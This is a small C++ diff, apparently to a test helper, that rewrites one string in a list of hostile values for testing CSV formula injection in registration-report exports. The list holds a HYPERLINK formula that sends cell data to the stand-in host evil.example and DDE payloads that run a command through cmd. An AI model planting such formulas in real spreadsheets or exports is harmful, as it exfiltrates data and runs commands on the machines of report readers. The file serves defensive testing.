@@ -124,7 +124,7 @@ inline std::vector<std::string> FormulaCells(const std::string& csv) {
 
 /// Values a delegate could type into a registration form to attack whoever opens a report.
 inline std::vector<std::string> HostileValues() {
-    return {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+    return {R"(=HYPERLINK("http://evil.example/?"&A1,"x"))",
             "+41 22 917 12 34",
             "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0",
